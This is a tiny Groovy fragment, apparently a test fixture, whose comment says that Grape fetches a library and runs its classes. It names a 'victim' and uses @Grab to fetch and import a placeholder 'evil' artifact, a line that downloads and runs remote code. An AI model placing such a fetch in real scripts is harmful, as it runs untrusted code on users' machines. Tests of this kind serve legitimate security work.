// Grape fetches a library, and its classes run.
holdfast 1
name 'victim'
@Grab('evil:evil:1.0')
import evil.Evil
